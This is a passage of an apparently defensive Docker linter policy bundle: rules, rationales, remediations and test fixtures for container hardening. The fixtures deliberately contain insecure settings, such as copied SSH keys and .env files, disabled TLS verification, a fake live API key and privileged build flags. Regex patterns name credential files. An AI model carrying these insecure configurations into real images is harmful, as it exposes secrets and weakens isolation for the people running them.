true\\n","expect":[]}],"source":"policies/docker/container-sensitive-host-mount.yaml"},{"id":"container-sysctl-weakens-isolation","pack":"docker","title":"Container sets a kernel parameter that weakens network isolation","severity":"low","subject":"container","schema":{"properties":{"sysctls":{"patternProperties":{"^net\\\\.ipv4\\\\.ip_forward$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.forwarding$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(route_localnet|accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.rp_filter$":{"not":{"const":"0"}},"^net\\\\.ipv4\\\\.ip_unprivileged_port_start$":{"not":{"const":"0"}}}}}},"message":"{{name}} sets the kernel parameter `{{key}}={{value}}`, which weakens the network isolation of its namespace (forwarding, routing to localhost, redirects or unprivileged low ports). Remove it unless the container is a router by design, and then run it on a dedicated network.","rationale":"Docker only lets containers set namespaced sysctls, but several of those change how far the container\'s traffic can reach: IP forwarding turns it into a router between networks, `route_localnet` lets packets addressed to 127.0.0.0/8 cross interfaces (the basis of CVE-2020-8558), accepting redirects and source routes lets others steer its traffic, switching off reverse-path filtering permits spoofed sources, and `ip_unprivileged_port_start=0` lets any user bind the ports below 1024. The OWASP cheat sheet (rule 8) asks to keep the container\'s runtime restricted to what it needs.","remediation":"Remove the sysctl. A VPN gateway or router that needs forwarding belongs on a dedicated\\nnetwork with only the containers it serves:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    sysctls:\\n      net.core.somaxconn: 1024   # harmless tuning stays\\n```","references":[{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/run/#sysctl"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  vpn:\\n    image: qmcgaw/gluetun:v3.39\\n    sysctls:\\n      net.ipv4.ip_forward: 1\\n      net.ipv4.conf.all.route_localnet: 1\\n      net.core.somaxconn: 1024\\n  web:\\n    image: nginx:1.27\\n    sysctls:\\n      - net.ipv4.ip_unprivileged_port_start=0\\n","expect":[{"line":5,"column":7,"endLine":5,"endColumn":29},{"line":6,"column":7},{"line":10,"column":5}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    sysctls:\\n      net.core.somaxconn: 1024\\n      net.ipv4.tcp_syncookies: 1\\n      net.ipv4.conf.all.rp_filter: 1\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      router:\\n        image: ghcr.io/example/router:1.0.0\\n        options: --sysctl net.ipv4.ip_forward=1\\n    steps:\\n      - run: |\\n          docker run --rm --sysctl net.ipv4.conf.all.rp_filter=0 alpine:3.20 true\\n","expect":[{"line":8,"column":9},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run --rm --sysctl net.core.somaxconn=1024 alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-sysctl-weakens-isolation.yaml"},{"id":"container-tmpfs-exec","pack":"docker","title":"tmpfs mount allows executables or setuid programs","severity":"low","subject":"container","schema":{"properties":{"tmpfs":{"items":{"not":{"pattern":{"$param":"unsafeOption"}}}}}},"message":"{{name}} mounts the tmpfs `{{value}}` with `exec` or `suid`, so an attacker who can write there (usually anyone in the container) can drop a program and run it, or keep a setuid binary. Remove the option: Docker mounts tmpfs with `noexec,nosuid,nodev` by default.","rationale":"A read-only root filesystem is only as strong as its writable exceptions. Docker mounts `--tmpfs` and Compose `tmpfs:` paths with `rw,noexec,nosuid,nodev`, so files written there cannot be executed and setuid bits are ignored; the `exec` and `suid` options undo that, giving a downloaded payload a place to run from. The OWASP cheat sheet (rule 8) recommends read-only root filesystems with `noexec,nosuid` temporary mounts.","remediation":"```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:size=64m          # noexec,nosuid,nodev by default\\n```\\n\\nIf a tool must unpack and run code at run time, give it its own volume instead and keep that\\nout of the service that handles untrusted input.","references":[{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/engine/storage/tmpfs/"}],"params":{"unsafeOption":"[:,](exec|suid)(,|$)"},"paramSchemas":{"unsafeOption":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `--tmpfs` / Compose `tmpfs:` entry (`/path:opt,opt`) that turns Docker\'s default `noexec` or `nosuid` back off."}},"tests":[{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:rw,exec,size=64m\\n      - /run\\n      - /var/cache:suid\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":30},{"line":8,"column":9}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:rw,noexec,nosuid,size=64m\\n      - /run\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --tmpfs /tmp:exec\\n    steps:\\n      - run: |\\n          docker run --rm --read-only --tmpfs /run:exec alpine:3.20 true\\n","expect":[{"line":7,"column":7},{"line":10,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run --rm --read-only --tmpfs /tmp:noexec,nosuid alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-tmpfs-exec.yaml"},{"id":"container-user-not-set","pack":"docker","title":"Compose service does not say which user it runs as","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}},"not":{"required":["build"]}},"schema":{"required":["user"]},"message":"{{name}} does not set `user:`, so it runs as whatever the image\'s author chose, which is root for most images. Set `user:` to an unprivileged UID the image supports (e.g. `user: \\"999:999\\"`), or confirm that the image already runs as a non-root user and suppress this with that reason.","rationale":"Without `user:` the container runs as the image\'s configured user, which this repository does not show and which is root unless the image\'s Dockerfile switched to another user. Many official images start as root (some drop privileges later in their entrypoint, some never do). Writing the user into the Compose file makes the choice visible in review and keeps it stable when the image changes. The CIS Docker Benchmark (4.1) and the OWASP cheat sheet (rule 2) ask that containers run as a non-root user. The rule is low severity because many images do set a user.","remediation":"Name the user explicitly. Most images document the UID they support:\\n\\n```yaml\\nservices:\\n  cache:\\n    image: redis:7.4\\n    user: \\"999:999\\"\\n  grafana:\\n    image: grafana/grafana:11.2.0\\n    user: \\"472\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#user"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  cache:\\n    image: redis:7.4\\n  web:\\n    image: nginx:1.27\\n    user: \\"101:101\\"\\n  api:\\n    build: ./api\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":8}]},{"file":"compose.yaml","content":"x-user: &user\\n  user: \\"10001\\"\\nservices:\\n  worker:\\n    <<: *user\\n    image: ghcr.io/example/worker:1.4.2\\n  cache:\\n    image: redis:7.4\\n    user: \\"999:999\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    services:\\n      cache:\\n        image: redis:7.4\\n    steps:\\n      - run: docker run --rm alpine:3.20 id\\n","expect":[]}],"source":"policies/docker/container-user-not-set.yaml"},{"id":"dockerfile-add-url-without-checksum","pack":"docker","title":"ADD downloads a remote file without verifying its checksum","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"ADD"},"args":{"prefixItems":[{"pattern":"^https?://"}]},"flags":{"not":{"required":["checksum"]}}}}}}}},"message":"This ADD downloads a file into stage {{name}} without `--checksum`, so whatever the server (or anyone in between) returns goes into the image unverified. Add `--checksum=sha256:<digest>` (Dockerfile syntax 1.6 or later), or download and verify it in a RUN.","rationale":"`ADD <url>` fetches the file at build time and copies it into the image as is. A compromised server, a moved release asset or a man-in-the-middle on a plain `http://` URL changes the image without any change in the repository, and the build cannot notice. `ADD --checksum` makes BuildKit verify the content against a known digest and fail the build otherwise. The CIS Docker Benchmark asks to prefer COPY over ADD (4.9) and to install only verified packages (4.11).","remediation":"Pin the download to its digest:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nADD --checksum=sha256:<64 hex digits of the release\'s published SHA-256> \\\\\\n    https://github.com/example/tool/releases/download/v1.2.0/tool-linux-amd64.tar.gz /tmp/\\n```\\n\\nFor a Git repository, ADD a tag and commit: `ADD https://github.com/example/repo.git?ref=v1.2.0&checksum=<commit> /src`.","references":[{"framework":"cis-docker","id":"1.6.0:4.9"},{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#add---checksum"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM alpine:3.20\\nADD https://example.com/tool.tar.gz /tmp/\\nADD --chown=10001 http://example.com/config.json /etc/app/config.json\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":42},{"line":3,"column":1}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM alpine:3.20\\nADD --checksum=sha256:24454f830cdd571e2c4ad5b15b2e8a7a7b07e5d6b2b9c2de1c4b9c3a5f2e8a1b https://example.com/tool.tar.gz /tmp/\\nADD rootfs.tar.gz /\\nCOPY app /app\\n","expect":[]}],"source":"policies/docker/dockerfile-add-url-without-checksum.yaml"},{"id":"dockerfile-copies-credential-file","pack":"docker","title":"Credential file copied into the image","severity":"high","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["COPY","ADD"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"credentialFile"}}}}}}}}}},"message":"Stage {{name}} copies `{{value}}`, a file that holds credentials, into the image, where every layer is readable by anyone who can pull it, even if a later step deletes the file. Keep it out of the image: mount it for the one RUN that needs it (`RUN --mount=type=secret`) and list it in `.dockerignore`.","rationale":"Files copied into an image stay in its layers for good: deleting them in a later instruction only hides them, and `docker save` or any layer-extraction tool recovers them. A `.env` file, an SSH key, an `.npmrc` with an auth token or a cloud credentials file in an image hands those credentials to everyone with pull access, and images are often pushed to registries far less protected than the secrets they contain. The CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets never be stored in images; BuildKit secret and SSH mounts give a build step access without writing anything to a layer.","remediation":"Mount the credential only while the step that needs it runs, and keep it out of the context:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci --omit=dev\\nRUN --mount=type=ssh git clone git@github.com:example/private.git\\n```\\n\\n```text\\n# .dockerignore\\n.env\\n*.key\\nid_*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/building/secrets/"}],"params":{"credentialFile":"(^|/)(\\\\.env(\\\\.(local|dev|development|prod|production|staging|test))?|id_(rsa|dsa|ecdsa|ed25519)|\\\\.pypirc|\\\\.netrc|\\\\.git-credentials|\\\\.htpasswd|credentials(\\\\.json)?)$|(^|/)[^/]+\\\\.(key|p12|pfx|jks|keystore)$|(privkey|[-_.]key)\\\\.pem$|(^|/)(?=[^/]*service-account)[^/]*\\\\.json$|(^|/)\\\\.(aws|ssh|gnupg)(/|$)|(^|/)\\\\.docker/config\\\\.json$|(^|/)\\\\.kube/config$"},"paramSchemas":{"credentialFile":{"schema":{"type":"string","format":"regex","minLength":1},"description":"File names that hold credentials: dotenv files (not .env.example), SSH private keys, registry and package-index credentials, cloud credentials, private keys and key stores. A project\'s `.npmrc` usually holds only the registry and a `${NPM_TOKEN}` reference, so it is left out; a `.pem` counts only when named as a key (most are public certificates)."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR /app\\nCOPY package.json package-lock.json ./\\nCOPY .env /app/.env\\nCOPY deploy/id_ed25519 /root/.ssh/id_ed25519\\nADD certs/server.key /etc/ssl/private/\\n","expect":[{"line":4,"column":6,"endLine":4,"endColumn":10},{"line":4,"column":11},{"line":5,"column":6},{"line":5,"column":24},{"line":6,"column":5}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR /app\\nCOPY package.json package-lock.json .npmrc ./\\nCOPY .env.example /app/.env.example\\nCOPY certs/ca.pem /usr/local/share/ca-certificates/ca.crt\\nCOPY .docker/php/php.ini /usr/local/etc/php/php.ini\\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci\\nCOPY . .\\n","expect":[]}],"source":"policies/docker/dockerfile-copies-credential-file.yaml"},{"id":"dockerfile-env-disables-tls-verification","pack":"docker","title":"Environment variable turns off TLS verification in the build or the image","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ENV","ARG","RUN"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"disablingVariable"}}}}}}}}}},"message":"`{{value}}` turns off TLS certificate verification for every tool that reads it in stage {{name}} (and, with ENV, in every container started from the image), so a spoofed server can feed it code or data. Remove it and install the CA certificate the tools need instead.","rationale":"`NODE_TLS_REJECT_UNAUTHORIZED=0`, `GIT_SSL_NO_VERIFY`, `PYTHONHTTPSVERIFY=0`, `NPM_CONFIG_STRICT_SSL=false` and `PIP_TRUSTED_HOST` disable certificate checks for every connection the program makes. In a RUN or ARG they open the build to man-in-the-middle package substitution; in an ENV they are baked into the image and silently weaken the application at run time too. The CIS Docker Benchmark (4.11) asks that only verified packages be installed.","remediation":"Trust the certificate instead of turning verification off:\\n\\n```dockerfile\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/corp-root-ca.crt\\nRUN update-ca-certificates\\nENV NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/corp-root-ca.crt\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#env"}],"params":{"disablingVariable":"^(NODE_TLS_REJECT_UNAUTHORIZED=0|NODE_TLS_REJECT_UNAUTHORIZED|GIT_SSL_NO_VERIFY(=.*)?|PYTHONHTTPSVERIFY=0|PYTHONHTTPSVERIFY|(NPM_CONFIG_STRICT_SSL|npm_config_strict_ssl)=false|PIP_TRUSTED_HOST(=.*)?)$"},"paramSchemas":{"disablingVariable":{"schema":{"type":"string","format":"regex","minLength":1},"description":"`NAME=value` words (ENV, ARG, or an assignment in a RUN) that switch verification off for Node.js, Git, Python, npm and pip; the bare names cover the legacy `ENV NAME value` form."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nENV NODE_ENV=production NODE_TLS_REJECT_UNAUTHORIZED=0\\nENV GIT_SSL_NO_VERIFY 1\\nRUN PIP_TRUSTED_HOST=pypi.example.com pip install internal-lib==1.0\\n","expect":[{"line":2,"column":25,"endLine":2,"endColumn":55},{"line":3,"column":5},{"line":4,"column":5}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/\\nRUN update-ca-certificates\\nENV NODE_EXTRA_CA_CERTS=/usr/local/share/ca-certificates/corp-root-ca.crt NODE_TLS_REJECT_UNAUTHORIZED=1\\n","expect":[]}],"source":"policies/docker/dockerfile-env-disables-tls-verification.yaml"},{"id":"dockerfile-final-stage-root","pack":"docker","title":"Image\'s final stage runs as root","severity":"medium","subject":"dockerfile.stage","when":{"properties":{"isFinal":{"const":true}}},"schema":{"required":["user"],"properties":{"user":{"not":{"pattern":{"$param":"rootUser"}}}}},"message":"The final stage ({{name}}) runs the image\'s process as root: it has no USER instruction, or its USER is root or 0, so whoever exploits the application is root inside the container. Create an unprivileged user and add `USER <name or uid>` at the end of the final stage.","rationale":"A container process that runs as root keeps every capability Docker grants by default, can rewrite the whole image filesystem, and is root on the host if it escapes through a kernel or runtime vulnerability or a careless mount. Most applications need no root at all at run time. Without a USER instruction an image runs as its base image\'s user, which is root for most official base images; USER is inherited from a stage named in FROM, so a final stage built on a non-root stage passes. The CIS Docker Benchmark and the OWASP cheat sheet both ask that images define a non-root user. Severity is medium: some base images already set a non-root user that this Dockerfile cannot show, and such a finding can be suppressed with that reason.","remediation":"Create a user (a fixed UID keeps file ownership predictable) and switch to it after the steps\\nthat need root:\\n\\n```dockerfile\\nFROM node:22-bookworm-slim\\nWORKDIR /app\\nCOPY --chown=10001:10001 . .\\nRUN groupadd --system --gid 10001 app \\\\\\n && useradd --system --uid 10001 --gid app --no-log-init app\\nUSER 10001:10001\\nCMD [\\"node\\", \\"server.js\\"]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/build/building/best-practices/#user"}],"params":{"rootUser":"^\\\\s*(root|0+)(:.*|\\\\s*)$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"The user part names root (by name or UID 0), whatever group follows."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-bookworm-slim\\nWORKDIR /app\\nCOPY . .\\nCMD [\\"node\\", \\"server.js\\"]\\n","expect":[{"line":1,"column":6,"endLine":1,"endColumn":27}]},{"file":"Dockerfile","content":"FROM golang:1.23 AS build\\nUSER 10001\\nRUN go build -o /out/app ./...\\n\\nFROM build AS runtime\\nUSER root\\nRUN apt-get update && apt-get install -y ca-certificates\\nUSER 0:0\\nENTRYPOINT [\\"/out/app\\"]\\n","expect":[{"line":8,"column":1,"endLine":8,"endColumn":9}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nRUN useradd --uid 10001 app\\nUSER root:app\\n\\nFROM base\\nCOPY app.py /app.py\\nCMD [\\"python\\", \\"/app.py\\"]\\n","expect":[{"line":3,"column":1}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nRUN useradd --uid 10001 app\\nUSER app\\n\\nFROM base AS final\\nCOPY --chown=app app.py /app.py\\nCMD [\\"python\\", \\"/app.py\\"]\\n","expect":[]},{"file":"Dockerfile","content":"ARG APP_UID=10001\\nFROM rust:1.82 AS build\\nRUN cargo build --release\\n\\nFROM gcr.io/distroless/cc-debian12:nonroot\\nCOPY --from=build /target/release/app /app\\nUSER ${APP_UID}\\nENTRYPOINT [\\"/app\\"]\\n","expect":[]},{"file":"Dockerfile","content":"FROM alpine:3.20 AS build\\nRUN echo build\\n\\nFROM alpine:3.20\\nRUN adduser -D -u 10001 app\\nUSER app\\nRUN echo done\\nUSER root\\n","expect":[{"line":8,"column":1}]}],"source":"policies/docker/dockerfile-final-stage-root.yaml"},{"id":"dockerfile-no-healthcheck","pack":"docker","title":"Image has no HEALTHCHECK","severity":"low","subject":"dockerfile.stage","when":{"properties":{"isFinal":{"const":true}}},"schema":{"required":["healthcheck"],"properties":{"healthcheck":{"properties":{"disable":{"const":false}}}}},"message":"The final stage ({{name}}) defines no working HEALTHCHECK (none is set, or `HEALTHCHECK NONE` switches the base image\'s off), so Docker cannot tell a hung container from a healthy one. Add one that probes the service, e.g. `HEALTHCHECK CMD [\\"/app/healthcheck\\"]`.","rationale":"A HEALTHCHECK in the image travels with it to every place it runs: Docker marks the container unhealthy when the probe fails, Compose can wait for `service_healthy`, and Swarm replaces the task. Without one, a deadlocked or degraded service looks as \\"running\\" as a healthy one. The CIS Docker Benchmark (4.6) asks that images carry a HEALTHCHECK instruction. Images that only ever run under Kubernetes (which ignores it and uses probes instead) may suppress this with that reason. A Compose `healthcheck:` on the service also satisfies container-no-healthcheck.","remediation":"Add a probe to the final stage. For an image without a shell, ship a small probe binary:\\n\\n```dockerfile\\nFROM gcr.io/distroless/static-debian12:nonroot\\nCOPY --from=build /out/app /out/healthcheck /\\nHEALTHCHECK --interval=30s --timeout=3s --retries=3 CMD [\\"/healthcheck\\"]\\nENTRYPOINT [\\"/app\\"]\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.6"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#healthcheck"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM golang:1.23 AS build\\nRUN go build -o /out/app ./...\\n\\nFROM gcr.io/distroless/static-debian12:nonroot\\nCOPY --from=build /out/app /app\\nENTRYPOINT [\\"/app\\"]\\n","expect":[{"line":4,"column":6,"endLine":4,"endColumn":47}]},{"file":"Dockerfile","content":"FROM nginx:1.27 AS base\\nHEALTHCHECK CMD curl -f http://localhost/ || exit 1\\n\\nFROM base\\nHEALTHCHECK NONE\\n","expect":[{"line":5,"column":1,"endLine":5,"endColumn":17}]},{"file":"Dockerfile","content":"FROM python:3.12-slim AS base\\nHEALTHCHECK --interval=30s CMD [\\"python\\", \\"-c\\", \\"import urllib.request as u; u.urlopen(\'http://localhost:8000/health\')\\"]\\n\\nFROM base\\nCOPY app.py /app/app.py\\nCMD [\\"python\\", \\"/app/app.py\\"]\\n","expect":[]}],"source":"policies/docker/dockerfile-no-healthcheck.yaml"},{"id":"dockerfile-run-insecure-options","pack":"docker","title":"RUN step asks for an insecure sandbox or the host network","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"properties":{"flags":{"properties":{"security":{"items":{"not":{"const":"insecure"}}},"network":{"items":{"not":{"const":"host"}}}}}}}}}},"message":"This RUN in stage {{name}} lifts the build sandbox (`{{value}}`): `--security=insecure` runs the step like a privileged container, and `--network=host` lets it reach everything the build host can. Remove the flag; move work that truly needs it out of the image build.","rationale":"BuildKit runs every RUN step in a sandbox with its own network and the default seccomp and AppArmor confinement. `RUN --security=insecure` (entitlement `security.insecure`) runs the step with full privileges, like `--privileged`, so a compromised dependency installed in that step can take over the builder, which on CI often holds credentials and caches for other builds. `RUN --network=host` (entitlement `network.host`) gives the step the builder host\'s network, including services bound to its localhost and cloud metadata endpoints. Both need an explicit entitlement from whoever runs the build, which is exactly what a reviewer should see asked for.","remediation":"Remove the flag. Steps that need network access use the default sandboxed network; steps that\\nneed privileges (loop devices, mounts) belong in a CI job step, not in the Dockerfile:\\n\\n```dockerfile\\nRUN --mount=type=cache,target=/root/.cache/go-build go build -o /out/app ./...\\n```","references":[{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#run---security"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#run---network"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1-labs\\nFROM alpine:3.20\\nRUN --security=insecure mount -t tmpfs none /mnt\\nRUN --network=host wget -qO- http://localhost:8080/assets.tar | tar -x\\n","expect":[{"line":3,"column":5,"endLine":3,"endColumn":24},{"line":4,"column":5}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM alpine:3.20\\nRUN --network=none ./offline-tests.sh\\nRUN --security=sandbox --mount=type=cache,target=/var/cache/apk apk add git\\n","expect":[]}],"source":"policies/docker/dockerfile-run-insecure-options.yaml"},{"id":"dockerfile-secret-in-arg-or-env","pack":"docker","title":"Secret passed through ARG or ENV","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ARG","ENV"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"secretName"}}}}}}}}}},"message":"Stage {{name}} passes a secret-looking variable through ARG or ENV; its value stays readable in the image\'s history and metadata (and, with ENV, in every container), for anyone who can pull the image. Use a build secret instead: `RUN --mount=type=secret,id=\u2026,env=\u2026`.","rationale":"Build arguments are recorded in the image\'s build history (and in provenance attestations), and ENV values are part of the image configuration: `docker history` and `docker inspect` show them to everyone who can pull the image, and multi-stage builds do not help when the variable is set in the final stage. BuildKit\'s SecretsUsedInArgOrEnv check, the CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets be handed to the build with secret mounts, which leave nothing behind in the image.","remediation":"Mount the secret for the one RUN that needs it:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN \\\\\\n    npm ci --omit=dev\\n```\\n\\nand pass it at build time with `docker build --secret id=npm_token,env=NPM_TOKEN .` (or the\\n`secrets:` input of docker/build-push-action).","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"docker-build-check","id":"SecretsUsedInArgOrEnv"},{"framework":"url","url":"https://docs.docker.com/reference/build-checks/secrets-used-in-arg-or-env/"},{"framework":"url","url":"https://docs.docker.com/build/building/secrets/"}],"params":{"secretName":"^(?=[A-Za-z0-9_]*(=|$))(?![A-Za-z0-9_]*(^|_)(PUBLIC|public|Public)(_|=|$))(?![A-Za-z0-9_]*_(FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type)(=|$))([A-Za-z0-9]+_)*(PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(_[A-Za-z0-9_]*)?(=|$)"},"paramSchemas":{"secretName":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A variable name with a secret-looking token (BuildKit\'s SecretsUsedInArgOrEnv list: apikey, auth, credential(s), key, password, pword, passwd, secret, token, plus pass) between underscores or at either end, optionally followed by `=value`. PUBLIC names and names that point at a file, a place or an account (`_FILE`, `_PATH`, `_URL`, `_ID`, \u2026) are left out."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nARG NPM_TOKEN\\nENV NODE_ENV=production API_KEY=sk_live_123\\nARG AWS_SECRET_ACCESS_KEY\\nRUN npm ci\\n","expect":[{"line":2,"column":5,"endLine":2,"endColumn":14},{"line":3,"column":25},{"line":4,"column":5}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nARG NODE_VERSION=22\\nENV PUBLIC_KEY_URL=https://keys.example.com/pub.asc MONKEY=banana\\nENV POSTGRES_PASSWORD_FILE=/run/secrets/db_password\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN npm ci\\n","expect":[]}],"source":"policies/docker/dockerfile-secret-in-arg-or-env.yaml"},{"id":"dockerfile-ssh-server","pack":"docker","title":"Image installs, runs or exposes an SSH server","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"expose":{"items":{"not":{"pattern":{"$param":"sshPort"}}}},"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["RUN","CMD","ENTRYPOINT"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"sshServer"}}}}}}}}}},"message":"Stage {{name}} sets up an SSH server (`{{value}}`), which adds a network login, keys or passwords to manage, and a long-running root daemon to every container of this image. Remove it and use `docker exec` (or `kubectl exec`) to get a shell in a running container.","rationale":"An SSH daemon in a container is a second way in that bypasses Docker\'s access control: it needs host keys and credentials baked into the image or managed per container, it usually runs as root, and it is one more service to patch. Docker already provides an authenticated way to run a shell in a container. The CIS Docker Benchmark (5.7) asks that sshd not run within containers.","remediation":"Drop the SSH server, the port and the keys, and get a shell through Docker instead:\\n\\n```sh\\ndocker exec -it <container> sh\\ndocker cp <container>:/var/log/app.log .\\n```\\n\\nFor files the service produces, use a volume. If remote access is a product feature (a Git\\nserver, a bastion), run it as a dedicated, hardened service rather than inside an application\\nimage.","references":[{"framework":"cis-docker","id":"1.6.0:5.7"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/exec/"}],"params":{"sshServer":"^(openssh-server|openssh|dropbear|(/usr/sbin/)?sshd)$","sshPort":"^22(/tcp)?$"},"paramSchemas":{"sshServer":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Package names and programs of SSH servers, as words of RUN, CMD and ENTRYPOINT."},"sshPort":{"schema":{"type":"string","format":"regex","minLength":1},"description":"An EXPOSE entry that publishes the SSH port."}},"tests":[{"file":"Dockerfile","content":"FROM ubuntu:24.04\\nRUN apt-get update && apt-get install -y --no-install-recommends openssh-server \\\\\\n && rm -rf /var/lib/apt/lists/*\\nEXPOSE 22 8080\\nCMD [\\"/usr/sbin/sshd\\", \\"-D\\"]\\n","expect":[{"line":2,"column":66,"endLine":2,"endColumn":80},{"line":4,"column":8,"endLine":4,"endColumn":10},{"line":5,"column":6}]},{"file":"Dockerfile","content":"FROM alpine:3.20\\nRUN apk add --no-cache openssh-client git\\nEXPOSE 8080/tcp 2222\\nCMD [\\"ssh\\", \\"-V\\"]\\n","expect":[]}],"source":"policies/docker/dockerfile-ssh-server.yaml"},{"id":"image-from-variable","pack":"docker","title":"Image reference cannot be verified (built from an unresolved variable)","severity":"info","subject":"image","when":{"not":{"properties":{"origin":{"const":"compose-service"}}}},"schema":{"properties":{"isVariable":{"const":false}}},"message":"`{{subject.ref}}` is filled in from a variable at run time, so no rule here can tell which image runs, whether it is pinned or where it comes from. Give the variable a pinned default (e.g. `${IMAGE:-ghcr.io/example/app:1.4.2@sha256:\u2026}`, `ARG BASE=\u2026`), or write the reference out.","rationale":"Tag, digest and registry 